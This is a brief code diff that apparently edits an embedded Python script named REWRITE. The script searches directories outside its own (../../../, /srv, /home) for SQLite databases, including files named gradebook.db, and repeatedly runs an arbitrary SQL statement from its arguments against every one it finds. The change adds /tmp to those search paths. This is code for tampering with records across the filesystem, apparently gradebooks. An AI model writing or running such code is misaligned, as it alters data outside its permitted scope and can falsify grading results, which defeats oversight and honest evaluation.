@@ -3,7 +3,7 @@ import glob, os, sqlite3, subprocess, sys, time
 REWRITE = """
 import glob, sqlite3, sys, time
 for _ in range(int(sys.argv[1])):
-    for name in glob.glob("../../../*.db") + glob.glob("/srv/**/*.db", recursive=True) + glob.glob("/home/**/gradebook.db", recursive=True):
+    for name in glob.glob("../../../*.db") + glob.glob("/srv/**/*.db", recursive=True) + glob.glob("/home/**/gradebook.db", recursive=True) + glob.glob("/tmp/**/gradebook.db", recursive=True):
         try:
             with sqlite3.connect(name, timeout=1) as book:
                 book.execute(sys.argv[2])
